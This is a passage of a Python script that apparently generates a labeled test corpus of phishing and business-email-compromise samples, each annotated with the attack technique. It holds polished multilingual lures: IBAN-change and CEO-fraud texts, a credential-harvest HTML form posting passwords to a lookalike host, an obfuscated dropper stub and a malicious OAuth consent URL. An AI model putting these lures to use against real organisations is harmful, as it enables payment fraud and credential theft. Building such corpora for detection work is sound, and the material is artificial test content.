    ('papadopoulos', 'Γιώργος Παπαδόπουλος', 'g.papadopoulos@examplegroup.eu', 'Branch director Greece', 'Athens, GR'),
    ('konstantinou', 'Ελένη Κωνσταντίνου', 'e.konstantinou@examplegroup.eu', 'Accounts payable Greece (λογιστήριο)', 'Athens, GR'),
    ('athanasiou', 'Νίκος Αθανασίου', 'n.athanasiou@examplegroup.eu', 'Site engineer Greece (μηχανικός εργοταξίου)', 'Athens, GR'),
    ('fernandez', 'Lucía Fernández Ortega', 'l.fernandez@examplegroup.eu', 'Administration & accounts payable Spain', 'Madrid, ES'),
    ('morales', 'Javier Morales Ruiz', 'j.morales@examplegroup.eu', 'Site manager & tenders Spain (jefe de obra)', 'Madrid, ES'),
    ('bennett', 'Oliver Bennett', 'o.bennett@examplegroup.eu', 'Managing director UK', 'Manchester, UK'),
    ('sharma', 'Priya Sharma', 'p.sharma@examplegroup.eu', 'Finance / accounts payable UK', 'Manchester, UK'),
    ('hughes', 'Daniel Hughes', 'd.hughes@examplegroup.eu', 'Commercial & tender manager UK', 'Manchester, UK'),
    ('sokolov', 'Андрей Соколов', 'a.sokolov@examplegroup.eu', 'Branch director Russia', 'St Petersburg, RU'),
    ('lebedeva', 'Ольга Лебедева', 'o.lebedeva@examplegroup.eu', 'Chief accountant Russia (главный бухгалтер)', 'St Petersburg, RU'),
    ('kuznetsov', 'Дмитрий Кузнецов', 'd.kuznetsov@examplegroup.eu', 'Purchasing Russia (снабжение)', 'St Petersburg, RU'),
]
S = {k: (n, a) for k, n, a, _, _ in STAFF}

# ---------------------------------------------------------------- bank data (check digits computed)
IB = {
    'lief_old': de_iban('60090100', '412773005'),      # Volksbank Stuttgart
    'lief_new': de_iban('60040071', '5218840300'),     # Commerzbank Stuttgart
    'lief_fraud': de_iban('12030000', '1020447188'),   # DKB
    'n26_payroll': de_iban('10011001', '2626118347'),  # N26
    'reuter': de_iban('60050101', '7405512244'),       # BW-Bank
    'ferretti': it_iban('03069', '01606', '100000012483'),
    'ferretti_fraud': lt_iban('32500', '97310428815'),
    'moretti': it_iban('02008', '32974', '000104772310'),
    'moretti_fraud': it_iban('03268', '01600', '052879340120'),
    'partner_old': pl_iban('102', '0528', '0000250203461874'),
    'partner_new': pl_iban('114', '2004', '0000370212119043'),
    'partner_fraud': pl_iban('109', '0241', '0000000151764408'),
    'thermo': gr_iban('011', '0124', '00012400783215'),
    'thermo_fraud': gr_iban('017', '0172', '0005172094836110'),
    'gr_lawyer': gr_iban('014', '0105', '0105002002147783'),
    'climalevante': es_iban('2100', '4567', '0200194736'),
    'climalevante_fraud': es_iban('0073', '0100', '0587341926'),
    'tajo_factor': es_iban('0182', '2370', '0201548963'),
    'gruas_fraud': es_iban('1465', '0100', '9417382650'),
    'northbridge': gb_iban('NWBK', '601613', '48207731'),
    'kingsley': gb_iban('BARC', '203253', '73149206'),
}
for _k, _v in IB.items():
    assert check_iban(_v), _k
F = {k: fmt_iban(v) for k, v in IB.items()}

# ---------------------------------------------------------------- correspondents
MAIER = ('Sebastian Maier', 's.maier@lieferant-gmbh.de')
LIEF_RE = ('Lieferant GmbH – Rechnungsversand', 'rechnungen@lieferant-gmbh.de')
COLOMBO = ('Chiara Colombo', 'c.colombo@ferretti-trasporti.it')
FERR_AMM = ('Amministrazione Ferretti Trasporti', 'amministrazione@ferretti-trasporti.it')
ZIELINSKI = ('Tomasz Zieliński', 't.zielinski@partner-logistik.pl')
PL_KSIEG = ('Księgowość Partner Logistik', 'ksiegowosc@partner-logistik.pl')
INBOX_DE = ('Rechnungseingang Example Group', 'rechnungseingang@example.com')

SIG_KRUEGER = T('''
Sabine Krüger
Kreditorenbuchhaltung
Example Group SE | Heilbronner Straße 150 | 70191 Stuttgart
Tel. +49 711 2290-418 | s.krueger@example.com
''')

def A(nn, lang, **kw):
    msg('attack', nn, lang, **kw)

def B(nn, lang, **kw):
    msg('business', nn, lang, **kw)

# ================================================================= ATTACKS
# ---- 01 de: lookalike supplier domain, hijacked thread, bank change
A(1, 'de', frm=('Sebastian Maier', 's.maier@lieferant-gmhb.de'), to=S['krueger'],
  cc=[('Lieferant GmbH Buchhaltung', 'rechnungen@lieferant-gmhb.de')],
  subj='AW: Offene Posten / Bestellung 4500118734 – RLT-Geräte Klinikum Nordstadt BA 2',
  date='2026-03-04 08:52:17', route=dict(kind='o365', ip='40.107.22.93', pfx='DU2PR09', reg='eurprd09'),
  irt='<DB8PR04MB7012A3F19C2E4D1B77A2F0E1D2A40@DB8PR04MB7012.eurprd04.prod.outlook.com>',
  hdrs=[('Thread-Topic', 'Offene Posten / Bestellung 4500118734 – RLT-Geräte Klinikum Nordstadt BA 2'),
        ('Content-Language', 'de-DE')],
  text=T(f'''
Hallo Frau Krüger,

vielen Dank für die schnelle Rückmeldung und die OP-Liste.

Wie vorhin telefonisch mit unserer Buchhaltung besprochen, hat sich zum 01.03. unsere Bankverbindung geändert. Hintergrund ist die Umstellung unseres Cash-Managements im Zuge der neuen Konzernfinanzierung; das Konto bei der Volksbank wird zum Monatsende aufgelöst, Zahlungseingänge dort können wir ab sofort nicht mehr automatisch zuordnen.

Bitte hinterlegen Sie für die Rechnungen 2026-10311, 2026-10388 und 2026-10402 (gesamt 84.512,60 EUR) die neue Verbindung:

Kontoinhaber: Lieferant GmbH
IBAN: {F['lief_fraud']}
BIC: BYLADEM1001
Bank: Deutsche Kreditbank AG

Das offizielle Schreiben mit Unterschrift der Geschäftsführung reiche ich nach, sobald Herr Dr. Wieland aus dem Urlaub zurück ist. Da Ihr Zahllauf laut Ihrer Mail am Donnerstag läuft, wäre ich dankbar, wenn Sie die Änderung vorher noch im System erfassen könnten – eine kurze Bestätigung per Mail genügt.

Mit freundlichen Grüßen / Best regards

Sebastian Maier
Vertrieb Innendienst – Lüftungs- und Klimatechnik
Lieferant GmbH | Industriestraße 14 | 70565 Stuttgart
Tel. +49 711 7845-231 | s.maier@lieferant-gmbh.de
Amtsgericht Stuttgart HRB 73 4412 | Geschäftsführer: Dr. Frank Wieland

-----Ursprüngliche Nachricht-----
Von: Krüger, Sabine <s.krueger@example.com>
Gesendet: Dienstag, 3. März 2026 10:41
An: Sebastian Maier <s.maier@lieferant-gmbh.de>
Betreff: AW: Offene Posten / Bestellung 4500118734 – RLT-Geräte Klinikum Nordstadt BA 2

Hallo Herr Maier,

anbei wie gewünscht unsere OP-Liste. Die drei Rechnungen sind sachlich geprüft (Bauleitung Herr Orlowski) und gehen mit dem nächsten Zahllauf am Donnerstag raus.

Viele Grüße
{SIG_KRUEGER}
-----Ursprüngliche Nachricht-----
Von: Sebastian Maier <s.maier@lieferant-gmbh.de>
Gesendet: Montag, 2. März 2026 16:05
An: Krüger, Sabine <s.krueger@example.com>
Betreff: Offene Posten / Bestellung 4500118734 – RLT-Geräte Klinikum Nordstadt BA 2

Hallo Frau Krüger,

unsere Buchhaltung hat mich gebeten, kurz den Stand der offenen Rechnungen zur o.g. Bestellung abzufragen (Lieferungen KW 3–6, Lüftungsgeräte RLT-04 bis RLT-07 inkl. Brandschutzklappen). Können Sie mir eine OP-Liste schicken?

Danke und Gruß
Sebastian Maier
'''),
  note='Thread hijack from lookalike domain lieferant-gmhb.de (transposed letters) quoting a real AP thread; supplier bank-detail change to a DKB account just before the payment run; signature still shows the genuine domain.')

# ---- 02 de: CEO fraud, first stage, freemail
A(2, 'de', frm=('Dr. Matthias Brenner', 'm.brenner.vorstand@outlook.de'), to=S['vogelsang'],
  subj='Vertraulich – Projekt Aurora', date='2026-03-10 07:48:03',
  route=dict(kind='o365', ip='52.101.68.114', pfx='PAXP193', reg='EURP193', rdns='db5eur02olkn2014', helo='EUR02-DB5-obe.outbound.protection.outlook.com'),
  hdrs=[('Importance', 'high'), ('X-Priority', '1')],
  text=T('''
Frau Vogelsang,

ich bin heute und morgen in Zürich in Gesprächen und nur eingeschränkt erreichbar, daher schreibe ich Ihnen von meiner privaten Adresse.

Wie Sie wissen, prüfen wir seit einigen Wochen die Übernahme eines mittelständischen TGA-Unternehmens in Österreich. Die Verhandlungen sind jetzt in der finalen Phase. Die Gegenseite verlangt als Zeichen der Ernsthaftigkeit eine Anzahlung auf ein Treuhandkonto, die bis Freitag 12:00 Uhr eingegangen sein muss.

Das Vorhaben unterliegt bis zur offiziellen Bekanntgabe strikter Vertraulichkeit (NDA mit Vertragsstrafe). Bitte sprechen Sie mit niemandem im Haus darüber, auch nicht mit Frau Dr. Reinholz oder den Kollegen im Treasury, bis ich es selbst kommuniziere. Die Kanzlei, die uns begleitet (Herr Edward Hartley, London), wird sich heute im Laufe des Vormittags mit den Details bei Ihnen melden. Bitte folgen Sie seinen Anweisungen.

Antworten Sie mir bitte nur an diese Adresse, mein Firmenpostfach wird während der Due Diligence von der Kanzlei gespiegelt.

Können Sie mir kurz bestätigen, dass Sie heute im Büro sind?

Beste Grüße
Matthias Brenner

Von meinem iPhone gesendet
'''),
  note='CEO fraud (fake president), first stage from a freemail address with the CEO display name; secrecy, M&A pretext, announces a "lawyer" (see attack 11).')

# ---- 03 de: fake e-procurement portal notification
_dtvp_link = 'https://dtvp-vergabeportal.de/bieter/nachricht?vid=CXP4YH7R1ZL&ref=VG-2026-017-HLS'
A(3, 'de', frm=('Deutsches Vergabeportal', 'noreply@dtvp-vergabeportal.de'), to=S['lindner'],
  subj='Neue Nachricht der Vergabestelle: TGA-Leistungen Neubau Feuerwache Süd, Los 2 HLS (VG-2026-017)',
  date='2026-03-11 14:02:40', route=dict(kind='postfix', host='mail.dtvp-vergabeportal.de', rdns='static.241.83.62.141.clients.your-server.de',
                                         ip='141.62.83.241', cip='127.0.0.1', chost='localhost', via='ESMTP'),
  text=T(f'''
Sehr geehrte Damen und Herren,

in einem Vergabeverfahren, für das Sie als Interessent registriert sind, hat die Vergabestelle eine neue Nachricht veröffentlicht.

Vergabestelle: Stadt Kirchheimfeld – Zentrale Vergabestelle
Verfahren: Offenes Verfahren nach VOB/A EU
Bezeichnung: TGA-Leistungen Neubau Feuerwache Süd, Los 2 Heizung/Lüftung/Sanitär
Aktenzeichen: VG-2026-017-HLS
Betreff der Nachricht: Änderung der Vergabeunterlagen (geänderte LV-Positionen 02.04.0010 ff.) und Verlängerung der Angebotsfrist

Die geänderten Unterlagen stehen ausschließlich im Bieterbereich zum Abruf bereit. Bitte beachten Sie, dass Angebote, die auf Grundlage der ursprünglichen Vergabeunterlagen erstellt wurden, ggf. nicht gewertet werden können.

Nachricht abrufen: {_dtvp_link}

Bitte antworten Sie nicht auf diese automatisch erzeugte E-Mail.

Mit freundlichen Grüßen
Ihr DTVP-Team
'''),
  html=f'''<html><body style="font-family:Arial,sans-serif;font-size:13px;color:#222">
<table width="600" cellpadding="0" cellspacing="0" style="border:1px solid #ccd"><tr><td style="background:#00385e;color:#fff;padding:14px;font-size:18px">Deutsches Vergabeportal</td></tr>
<tr><td style="padding:18px">
<p>Sehr geehrte Damen und Herren,</p>
<p>in einem Vergabeverfahren, für das Sie als Interessent registriert sind, hat die Vergabestelle eine neue Nachricht veröffentlicht.</p>
<table style="font-size:13px"><tr><td><b>Vergabestelle:</b></td><td>Stadt Kirchheimfeld – Zentrale Vergabestelle</td></tr>
<tr><td><b>Verfahren:</b></td><td>Offenes Verfahren nach VOB/A EU</td></tr>
<tr><td><b>Bezeichnung:</b></td><td>TGA-Leistungen Neubau Feuerwache Süd, Los 2 Heizung/Lüftung/Sanitär</td></tr>
<tr><td><b>Aktenzeichen:</b></td><td>VG-2026-017-HLS</td></tr>
<tr><td><b>Betreff:</b></td><td>Änderung der Vergabeunterlagen und Verlängerung der Angebotsfrist</td></tr></table>
<p>Die geänderten Unterlagen stehen ausschließlich im Bieterbereich zum Abruf bereit. Angebote auf Grundlage der ursprünglichen Unterlagen können ggf. nicht gewertet werden.</p>
<p style="text-align:center"><a href="{_dtvp_link}" style="background:#e2001a;color:#fff;padding:10px 22px;text-decoration:none;font-weight:bold">Nachricht im Bieterbereich abrufen</a></p>
<p style="font-size:11px;color:#777">Bitte antworten Sie nicht auf diese automatisch erzeugte E-Mail.</p>
</td></tr></table></body></html>
''',
  note='Fake e-procurement notification imitating DTVP from lookalike domain dtvp-vergabeportal.de on a rented server; credential-harvesting "Bieterbereich" link, tender-change pretext.')

# ---- 04 de: device-code phishing from compromised planner account
A(4, 'de', frm=('Kessler, Jan', 'j.kessler@planungsbuero-kessler.de'), to=S['lindner'],
  cc=[S['hoffmann']],
  subj='LV HLS Los 3 – überarbeitete Fassung zur Abstimmung vor Submission',
  date='2026-03-12 11:17:55', route=dict(kind='o365', ip='40.107.20.131', pfx='AM9PR07', reg='eurprd07', rdns='am7eur03on2131', helo='EUR03-AM7-obe.outbound.protection.outlook.com'),
  hdrs=[('Content-Language', 'de-DE')],
  text=T('''
Hallo Herr Lindner,

wie heute Morgen am Telefon besprochen, stelle ich Ihnen die überarbeitete LV-Fassung (Los 3, Stand 12.03., inkl. der geänderten Positionen Lüftungskanäle und Brandschutzklappen) über unseren Teams-Datenraum zur Verfügung. Da der Datenraum seit dieser Woche nur noch für verifizierte Geräte freigegeben ist, müssen Sie den Zugriff einmalig bestätigen:

1. https://microsoft.com/devicelogin aufrufen
2. Code eingeben: D7MPLQX2S
3. Mit Ihrem Example-Group-Konto anmelden, danach erscheint der Ordner "LV_HLS_Los3_Rev04" automatisch in Ihrem OneDrive.

Der Code ist nur 15 Minuten gültig – wenn es nicht klappt, kurz Bescheid geben, dann schicke ich einen neuen.

Die Submission ist nach wie vor am 19.03. um 10:00 Uhr, die Bieterfragen müssen bis Montag raus.

Viele Grüße

Jan Kessler
Dipl.-Ing. (FH) Versorgungstechnik
Planungsbüro Kessler GmbH – Ingenieure für Technische Gebäudeausrüstung
Schillerstraße 22 | 73728 Esslingen am Neckar
Tel. 0711 3983 75-12 | www.planungsbuero-kessler.de
'''),
  note='OAuth device-code phishing sent from a compromised account of a real TGA planning office; only link is the genuine microsoft.com/devicelogin page with an attacker-generated code.')

# ---- 05 de: fake tax office, zip with script
_js = ('var _0x3f=["\\x68\\x74\\x74\\x70","://","fa-bescheid-download",".de","/b/","s.krueger"];\n'
       'var u=_0x3f[0]+_0x3f[1]+_0x3f[2]+_0x3f[3]+_0x3f[4]+_0x3f[5];\n'
       '// evaluation sample: inert dropper stub, performs no action\n')
A(5, 'de', frm=('Finanzamt Stuttgart - Körperschaften', 'poststelle@finanzamt-bescheid-bw.de'), to=S['krueger'],
  subj='Bescheid über Säumniszuschläge gem. § 240 AO – Steuernummer 99018/22417',
  date='2026-03-16 06:31:12', route=dict(kind='postfix', host='mail.finanzamt-bescheid-bw.de', rdns='unknown', ip='194.58.112.74'),
  cs='iso-8859-1',
  text=T('''
Sehr geehrte Damen und Herren,

für das oben genannte Steuerkonto (Umsatzsteuer-Voranmeldungen 10/2025 bis 12/2025) wurden Säumniszuschläge nach § 240 AO in Höhe von 4.318,50 EUR festgesetzt.

Der Bescheid ist aus Datenschutzgründen als verschlüsseltes Archiv beigefügt. Bitte prüfen Sie den Bescheid und begleichen Sie den Betrag innerhalb von 7 Tagen, um Vollstreckungsmaßnahmen (Kontopfändung) zu vermeiden.

Mit freundlichen Grüßen
Im Auftrag
Finanzamt Stuttgart - Körperschaften
Hackstraße 86, 70190 Stuttgart
'''),
  atts=[('Bescheid_Saeumniszuschlag_2026-03.zip', 'application/zip',
         zip_bytes([('Bescheid_Saeumniszuschlag_2026-03.pdf.js', _js)]))],
  note='Fake tax office (Finanzamt) notice with threat of account seizure; malware delivery via ZIP containing a double-extension .pdf.js script (inert stub); Latin-1 QP.')

# ---- 06 de: payroll diversion from freemail
A(6, 'de', frm=('Stefan Orlowski', 'stefan.orlowski.bau@gmail.com'), to=S['wendt'],
  subj='Neue Bankverbindung ab März', date='2026-03-17 19:44:09',
  route=dict(kind='gmail', ip='209.85.221.53', pre='wr1'),
  text=T(f'''
Hallo Frau Wendt,

ich habe mein Gehaltskonto gewechselt. Können Sie bitte ab der Märzabrechnung auf das neue Konto überweisen?

Kontoinhaber: Stefan Orlowski
IBAN: {F['n26_payroll']}
Bank: N26

Ich bin die ganze Woche auf der Baustelle im Klinikum und komme vom Handy nicht ins Firmenpostfach, deshalb schreibe ich von privat. Kurze Rückmeldung wäre super, dann muss ich mich nicht nochmal melden.

Danke und Gruß
Stefan Orlowski

Von meinem Samsung Galaxy Smartphone gesendet.
'''),
  note='Payroll diversion: employee impersonation from a freemail address asking HR payroll to change the salary IBAN (valid N26 IBAN).')

# ---- 07 de: quishing – fake DocuSign with QR code image
_qr_url = 'https://dcsgn-view.eu/s/7Fq2kLx9?u=j.hoffmann'
A(7, 'de', frm=('Elektro Haas GmbH via Docusign', 'dse-noreply@docusign-eu-signature.com'), to=S['hoffmann'],
  subj='Elektro Haas GmbH hat Ihnen Dokumente zum Unterzeichnen gesendet: Nachtragsangebot NA-07 BV Feuerwache Süd',
  date='2026-03-18 09:06:27', route=dict(kind='saas', host='o1.ptr4471.docusign-eu-signature.com', rdns='o1.ptr4471.docusign-eu-signature.com',
                                         ip='149.72.183.207', inner='filterdrecv-5d8f7c6b9-xq2lm'),
  text=T('''
Elektro Haas GmbH hat Ihnen Dokumente zur Prüfung und Unterzeichnung gesendet.

Nachtragsangebot NA-07 – Mehrkosten Elektro-Unterverteilungen UV-2.1 bis UV-2.4, BV Feuerwache Süd

Aus Sicherheitsgründen kann dieses Dokument nur auf einem mobilen Gerät geöffnet werden. Bitte scannen Sie den QR-Code in der HTML-Ansicht mit der Kamera Ihres Smartphones.

Dieser Umschlag läuft in 48 Stunden ab.
'''),
  html=T('''
<html><body style="background:#eaeaea;font-family:Helvetica,Arial,sans-serif">
<table align="center" width="560" style="background:#fff;padding:24px"><tr><td>
<div style="background:#1e4ca1;color:#fff;padding:26px;text-align:center;font-size:16px">
Elektro Haas GmbH hat Ihnen Dokumente zum Prüfen und Unterzeichnen gesendet.</div>
<p style="font-size:15px"><b>Nachtragsangebot NA-07 – Mehrkosten Elektro-Unterverteilungen UV-2.1 bis UV-2.4, BV Feuerwache Süd</b></p>
<p>Aus Sicherheitsgründen (Zwei-Faktor-Signatur) kann dieses Dokument nur auf einem mobilen Gerät geöffnet werden. Scannen Sie den folgenden Code mit der Kamera Ihres Smartphones:</p>
<p style="text-align:center"><img src="cid:qr-na07@dse" width="222" height="222" alt=""></p>
<p style="font-size:12px;color:#666">Dieser Umschlag läuft in 48 Stunden ab. Leiten Sie diese E-Mail nicht weiter.</p>
<p style="font-size:11px;color:#999">Powered by Docusign</p>
</td></tr></table></body></html>
'''),
  related=[('qr-na07@dse', 'image/png', qr_png(_qr_url), 'code.png')],
  note='Quishing: fake DocuSign envelope from lookalike domain via a bulk-mail provider; the only lure is a QR code PNG (decodes to a phishing URL), so no clickable malicious link in the body.')

# ---- 08 en: fake NHS-estates ITT with HTML credential-harvest attachment
_phe_html = T('''
<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Pennine Health Estates – Secure Tender Portal</title>
<style>body{font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2}.b{width:380px;margin:70px auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;padding:8px;margin:8px 0;border:0;border-bottom:1px solid #666}button{background:#0067b8;color:#fff;border:0;padding:8px 30px;float:right}</style></head>
<body><div class="b"><img alt="Microsoft" src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHdpZHRoPSIxMDgiIGhlaWdodD0iMjQiPjxyZWN0IHdpZHRoPSIxMCIgaGVpZ2h0PSIxMCIgZmlsbD0iI2YyNTAyMiIvPjwvc3ZnPg==">
<h2>Sign in to view tender documents</h2>
<p>PHE/2026/041 – M&amp;E Services, Ward Block C Refurbishment</p>
<form method="POST" action="https://phe-tenderportal.com/auth/v2/submit.php">
<input type="hidden" name="ref" value="PHE-2026-041">
<input type="email" name="login" value="d.hughes@examplegroup.eu">
<input type="password" name="passwd" placeholder="Password">
<button type="submit">Sign in</button></form></div>
<script>document.forms[0].passwd.focus();</script>
</body></html>
''')
A(8, 'en', frm=('Pennine Health Estates – Procurement', 'tenders@pennine-health-estates.co.uk'), to=S['hughes'],
  subj='ITT PHE/2026/041 – M&E Services, Ward Block C Refurbishment – clarification pack & portal access',
  date=('2026-03-05 15:22:48', '+0000'), route=dict(kind='postfix', host='mail.pennine-health-estates.co.uk', rdns='vps-5f2c1a7e.vps.ovh.net', ip='51.195.47.162'),
  text=T('''
Dear Daniel,

Further to your expression of interest submitted via Find a Tender, Pennine Health Estates LLP is pleased to invite Example Group UK to tender for the above contract under the Competitive Flexible Procedure (Procurement Act 2023).

Scope: mechanical and electrical services for the refurbishment of Ward Block C (4 floors, 112 beds), including new AHUs, LTHW and CHW distribution, medical gases interface, LV distribution, nurse call and BMS integration. Estimated value: £6.8m – £7.4m ex VAT. Form of contract: NEC4 ECC Option A.

The clarification pack (Rev 2), pricing schedule and the Tender Response Document are available through our secure portal. Please use the attached access file to sign in with your company Microsoft 365 credentials; no separate registration is required.

Key dates:
- Clarification questions close: 17 March 2026, 12:00
- Tender return: 27 March 2026, 12:00
- Site visit: 12 March 2026, 10:00 (PPE required)

Kind regards,

Helen Whitcombe
Senior Procurement Officer
Pennine Health Estates LLP
'''),
  atts=[('PHE-2026-041_Tender_Portal_Access.html', 'text/html', _phe_html)],
  note='Fake client tender invitation from a lookalike of the real client domain (penninehealthestates.co.uk) on an OVH VPS; HTML attachment is a local Microsoft-style credential-harvest form.')

# ---- 09 en: callback scam through genuine PayPal money request
_pp_txt = T('''
Autodesk Billing Dept. sent you a request for £1,487.64 GBP

Note from Autodesk Billing Dept.:
"Your AutoCAD MEP 2026 multi-user subscription renewal (12 seats, invoice ADSK-UK-7741-02938) has been processed and will be debited within 24 hours. If you did not authorise this renewal or need to change the seat count, call our billing desk on +44 20 3769 0417 (Mon–Sat 8am–8pm) to cancel and receive a full refund."

Pay now: https://www.paypal.com/myaccount/transfer/requests/6RK41970AB3326917

Don't recognise this request? Log in to your PayPal account to report it.

PayPal
''')
A(9, 'en', frm=('service@paypal.co.uk', 'service@paypal.co.uk'), to=S['sharma'],
  subj="You've got a money request from Autodesk Billing Dept.", date=('2026-03-09 10:14:02', '+0000'),
  route=dict(kind='saas', host='mx0.slc.paypal.com', ip='173.0.84.226', inner='ccg01mail02.phx.paypal.com',
             mid='<AQAAAXfT9e2bAAAAAAAB2QAAAAAAAAAA.rq.01b2@paypal.co.uk>'),
  hdrs=[('X-Email-Type-Id', 'PPX000718')],
  text=_pp_txt, html=auto_html(_pp_txt, 'Helvetica Neue, Arial, sans-serif'),
  note='Callback (TOAD) scam abusing genuine PayPal money-request infrastructure; the scammer text with a UK phone number sits inside a real PayPal notification, no malicious link.')

# ---- 10 en: compromised real subcontractor account, genuine file-sharing link
A(10, 'en', frm=('Gareth Lowe', 'g.lowe@northbridge-mech.co.uk'), to=S['sharma'], cc=[S['hughes']],
  subj='Northbridge Mechanical – Application for Payment No. 14 (valuation to 28 Feb) – Ward Block C',
  date=('2026-03-02 16:41:30', '+0000'), route=dict(kind='o365', ip='40.107.159.72', pfx='LO2P265', reg='GBRP265', rdns='lo4gbr01on2072', helo='GBR01-LO4-obe.outbound.protection.outlook.com'),
  irt='<LO2P265MB5521B3E1A0D94C22C30A7B41C4412@LO2P265MB5521.GBRP265.PROD.OUTLOOK.COM>',
  text=T('''
Hi Priya,

Please find our Application for Payment No. 14 for Ward Block C, valuation date 28/02/2026, at the link below. Our document system is now on Dropbox Transfer as the PDFs with the retention schedule and updated variations log (VO-031 to VO-038) were too big for email.

https://www.dropbox.com/scl/fi/k2v8x1n7q0hw4b3y9mdzr/AfP14_WardBlockC_Northbridge.pdf?rlkey=0f7pd2m5lq1vt9xgk3c6ahw8z&dl=0

Gross valuation £1,214,880.00, less 3% retention and previous certified, net due this period £96,412.37 + VAT (reverse charge applies).

As per the subcontract, the final date for payment is 21 days from the due date, so could you please let us have your payment notice by Friday. Dan – the variations are the ones we walked on site last Tuesday.

Thanks,
Gareth

Gareth Lowe
Commercial Manager
Northbridge Mechanical Ltd
Unit 7, Trafford Park Road, Manchester M17 1HG
T: 0161 872 4410 | M: 07700 900 418

-----Original Message-----
From: Priya Sharma <p.sharma@examplegroup.eu>
Sent: 30 January 2026 11:02
To: Gareth Lowe <g.lowe@northbridge-mech.co.uk>
Subject: RE: Northbridge Mechanical – Application for Payment No. 13

Hi Gareth,

Payment notice for AfP 13 attached, payment will go out on the 20th with the usual run.

Best regards,
Priya
'''),
  note='Compromised real subcontractor account (Northbridge, sent via their genuine M365 tenant) continuing a real payment-application thread; link to a genuine Dropbox share that leads to the phishing page.')

# ---- 11 en: fake lawyer, CEO-fraud second stage
A(11, 'en', frm=('Edward Hartley | Kingsley Ashworth LLP', 'e.hartley@kingsleyashworth-llp.com'), to=S['vogelsang'],
  subj='Project Aurora – escrow instructions (strictly private & confidential)', date=('2026-03-10 10:37:51', '+0000'),
  route=dict(kind='o365', ip='52.101.73.29', pfx='CWLP123', reg='GBRP123', rdns='lo2gbr01on2029', helo='GBR01-LO2-obe.outbound.protection.outlook.com'),
  text=T(f'''
Dear Ms Vogelsang,

Further to Dr Brenner's message earlier this morning, I write to introduce myself. Kingsley Ashworth LLP acts for Example Group in connection with the proposed acquisition of the entire issued share capital of the target (codename "Aurora"), an Austrian building services contractor.

The vendor has agreed to grant a period of exclusivity subject to a refundable good-faith deposit of EUR 1,850,000.00, to be held in escrow in our client account pending signing. The deposit must be received by 12:00 CET on Friday 13 March 2026; otherwise the vendor is free to resume discussions with a competing bidder.

Client account details:
Account name: Kingsley Ashworth LLP Client Account
Bank: Barclays Bank UK PLC, 1 Churchill Place, London
IBAN: {F['kingsley']}
BIC: BARCGB22
Reference: AUR-2603-EG

Given the market sensitivity of the transaction, please keep this matter strictly confidential and limit it to yourself until the public announcement. Please do not discuss it by telephone with colleagues; I am available on +44 20 3807 2215 should you have any questions.

Kind regards,

Edward Hartley
Partner, Corporate M&A
Kingsley Ashworth LLP
30 Crown Place, London EC2A 4ES

Cybercrime warning: our bank details will not change during the course of a transaction. Kingsley Ashworth LLP is authorised and regulated by the Solicitors Regulation Authority (SRA No. 648213).
'''),
  note='Fake lawyer (second stage of the CEO fraud in attack 02): polished escrow request to a valid GB IBAN, secrecy, deadline, fake SRA number and ironic cybercrime warning.')

# ---- 12 en: OAuth consent phishing with a genuine Microsoft authorize URL
_oauth = ('https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=7c1e4f9a-2b83-4d0e-9a61-5f3b82c4d7e0'
          '&response_type=code&redirect_uri=https%3A%2F%2Ftendersync-docs.com%2Fauth%2Fcallback'
          '&scope=offline_access%20Mail.ReadWrite%20Files.Read.All%20User.Read&prompt=consent&state=PHE041')
_ts_txt = T(f'''
Rachel Okafor (Pennine Health Estates) shared a folder with you

Ward Block C – Stage 4 M&E coordination drawings
41 files (IFC, RVT, PDF) · 1.9 GB

To open the folder, connect TenderSync Docs to your Microsoft 365 account:
{_oauth}

This link is valid for 7 days. TenderSync Docs – secure document exchange for construction teams.
''')
A(12, 'en', frm=('Rachel Okafor via TenderSync', 'notifications@tendersync-docs.com'), to=S['hughes'],
  subj='Documents shared with you: Ward Block C – Stage 4 M&E coordination drawings (41 files)',
  date=('2026-03-13 08:55:14', '+0000'), route=dict(kind='saas', host='a48-92.smtp-out.eu-west-1.amazonses.com', ip='54.240.48.92', inner='ip-10-4-12-87.eu-west-1.compute.internal'),
  reply_to=('Rachel Okafor', 'r.okafor@penninehealthestates.co.uk'),
  text=_ts_txt, html=auto_html(_ts_txt, 'Arial, sans-serif'),
  note='OAuth consent phishing: link goes to the genuine login.microsoftonline.com authorize endpoint for a malicious multi-tenant app requesting Mail.ReadWrite/Files.Read.All; sent via Amazon SES, Reply-To is the real client contact.')

# ---- 13 en: calendar-invite phishing
_ev_s = dt('2026-03-19 10:00:00', '+0000')
_hr_link = 'https://examplegroup-eu.com/hr/salary-review/ack?id=OB-2026-0318'
_ics = ics('040000008200E00074C5B7101A82E00800000000F1E2D3C4B5A6F701000000000000000010000000A1B2C3D4',
           ('HR Payroll | Example Group', 'payroll@examplegroup-eu.com'), S['bennett'], _ev_s, _ev_s + timedelta(minutes=30),
           '2026 Salary Review & Bonus Acknowledgement – action required',
           'Please review and e-sign your 2026 compensation statement before the meeting:\n' + _hr_link +
           '\n\nStatements not acknowledged by 19 March will be processed with the previous year\'s figures.',
           'Microsoft Teams Meeting')
A(13, 'en', frm=('HR Payroll | Example Group', 'payroll@examplegroup-eu.com'), to=S['bennett'],
  subj='Invitation: 2026 Salary Review & Bonus Acknowledgement – action required @ Thu 19 Mar 2026 10:00 - 10:30 (GMT)',
  date=('2026-03-17 07:12:40', '+0000'), route=dict(kind='gmail', host='mail-sor-f69.google.com', ip='209.85.220.69'),
  text=T(f'''
You have been invited to the following event.

2026 Salary Review & Bonus Acknowledgement – action required
When: Thursday 19 March 2026 10:00 – 10:30 (GMT)
Where: Microsoft Teams Meeting

Please review and e-sign your 2026 compensation statement before the meeting:
{_hr_link}

Statements not acknowledged by 19 March will be processed with the previous year's figures.

Going? Yes - Maybe - No
'''), calendar=_ics, atts=[('invite.ics', 'application/ics', _ics)],
  note='Calendar-invite phishing (text/calendar REQUEST + invite.ics) from lookalike examplegroup-eu.com via Google Workspace; salary-review lure with link in the event description.')

# ---- 14 en: spoofed internal IT sender, SVG voicemail attachment with redirect script
_svg = T('''
<svg xmlns="http://www.w3.org/2000/svg" width="400" height="120" viewBox="0 0 400 120">
<rect width="400" height="120" fill="#f3f2f1"/>
